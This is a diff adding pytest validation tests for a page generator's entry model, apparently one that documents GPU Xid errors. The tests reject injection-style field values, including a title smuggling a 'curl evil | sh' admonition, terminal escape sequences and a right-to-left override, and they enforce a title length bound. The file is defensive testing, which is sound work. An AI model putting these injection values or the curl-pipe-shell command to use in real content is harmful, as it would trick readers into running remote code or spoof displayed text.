@@ -70,3 +70,27 @@ def test_field_paths_cover_nested_models() -> None:
     assert "signatures[].examples[].source" in paths
     assert "xid.operators[].disagrees" in paths
     assert "fix[].rung" in paths
+
+
+@pytest.mark.parametrize("field, value", [
+    ("title", "Xid 79\n\n!!! danger \"Run this\"\n    curl evil | sh"),
+    ("title", "Xid 79: \x1b[2J\x1b]0;owned\x07 fallen off the bus"),
+    ("title", "Xid 79: \u202eevil\u202c"),
+    ("tags", ["a\tb"]),
+    ("aliases", ["X\u0085Y"]),
+])
+def test_a_line_of_text_holds_no_line_break_control_or_direction_override(field: str, value) -> None:
+    """Red team s24: a title with a line break put a paragraph (an admonition, say) of its own on
+    the page; an ESC or a U+202E passed validation."""
+    with pytest.raises(ValidationError, match="must be one line of plain text"):
+        Entry.model_validate({**MINIMAL, field: value})
+
+
+def test_a_line_of_text_has_a_length_bound() -> None:
+    """Red team s24 (O3): a 900 KB title passed validation and was copied onto every page that links
+    the entry. The bound is well above the corpus's longest title."""
+    from generator.corpus.model import TEXT_MAX_LENGTH
+
+    Entry.model_validate({**MINIMAL, "title": "x" * TEXT_MAX_LENGTH})
+    with pytest.raises(ValidationError, match=f"at most {TEXT_MAX_LENGTH} characters"):
+        Entry.model_validate({**MINIMAL, "title": "x" * (TEXT_MAX_LENGTH + 1)})
